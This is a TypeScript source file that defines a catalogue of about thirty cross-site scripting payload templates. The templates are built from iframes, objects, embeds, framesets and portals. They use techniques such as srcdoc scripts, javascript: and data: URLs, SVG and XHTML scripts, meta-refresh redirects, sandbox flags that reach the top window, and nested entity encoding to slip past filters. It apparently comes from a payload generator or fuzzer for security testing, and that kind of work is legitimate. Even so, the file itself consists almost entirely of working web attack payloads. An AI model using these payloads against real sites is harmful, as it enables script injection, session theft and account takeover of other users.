import { family } from './payload.ts'

const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const svg = (js: string): string => `<svg xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>`

/** Documents within the document. */
export const FRAMES = family('frame', {
  'own-document': ({ js }) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  'own-document-entities': ({ js }) => `<iframe srcdoc="${quoted(`<script>${js}</script>`)}"></iframe>`,
  'own-document-handler': ({ js }) => `<iframe srcdoc='<img src=x: onerror=${js}>'></iframe>`,
  'document-in-document': ({ js }) =>
    `<iframe srcdoc="${quoted(`<iframe srcdoc="${quoted(`<script>${js}</script>`)}"></iframe>`)}"></iframe>`,
  'own-document-and-address': ({ js, url }) => `<iframe src="${url}" srcdoc="<script>${js}</script>"></iframe>`,
  sandboxed: ({ js }) => `<iframe sandbox="allow-scripts" srcdoc="<script>${js}</script>"></iframe>`,
  'sandboxed-to-top': ({ js }) =>
    `<iframe sandbox="allow-scripts allow-top-navigation allow-same-origin" srcdoc="<script>top.${js}</script>"></iframe>`,
  'with-policy': ({ js }) => `<iframe csp="script-src * 'unsafe-inline'" srcdoc="<script>${js}</script>"></iframe>`,
  'javascript-address': ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  'javascript-parent': ({ js }) => `<iframe src="javascript:parent.${js}"></iframe>`,
  'javascript-capitals': ({ js }) => `<iframe src=" &#10;JAVASCRIPT:${js}"></iframe>`,
  'data-html': ({ js }) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  'data-svg': ({ js }) => `<iframe src="data:image/svg+xml,${svg(js)}"></iframe>`,
  'data-xml': ({ js }) =>
    `<iframe src="data:text/xml,<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>${js}</h:script></x>"></iframe>`,
  'refresh-within': ({ js }) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=javascript:${js}'>"></iframe>`,
  'link-within': ({ js }) =>
    `<iframe srcdoc="<base target=_top><a href='javascript:${js}' autofocus onfocus=click()>x</a>"></iframe>`,
  named: ({ js }) => `<iframe name="inner"></iframe><a href="javascript:${js}" target="inner">press</a>`,
  'form-into-frame': ({ js }) =>
    `<iframe name=f2></iframe><form target=f2 action="javascript:${js}"><button>go</button></form>`,
  'elsewhere-document': ({ url }) => `<iframe src="${url}.html"></iframe>`,
  'elsewhere-lazy': ({ url }) => `<iframe loading=lazy src="${url}.html"></iframe>`,
  'object-html': ({ js }) => `<object type="text/html" data="data:text/html,<script>${js}</script>"></object>`,
  'object-svg': ({ js }) => `<object type="image/svg+xml" data="data:image/svg+xml,${svg(js)}"></object>`,
  'object-in-object': ({ js }) =>
    `<object data="x:"><object data="data:text/html,<script>${js}</script>"></object></object>`,
  'object-param': ({ js }) =>
    `<object><param name=src value="javascript:${js}"><param name=url value="javascript:${js}"></object>`,
  'embed-html': ({ js }) => `<embed type="text/html" src="data:text/html,<script>${js}</script>">`,
  'embed-svg': ({ js }) => `<embed src="data:image/svg+xml,${svg(js)}">`,
  frameset: ({ js }) => `<frameset><frame src="javascript:${js}"></frameset>`,
  portal: ({ url }) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  'in-noscript': ({ js }) => `<noscript><iframe srcdoc="<script>${js}</script>"></iframe></noscript>`,
})
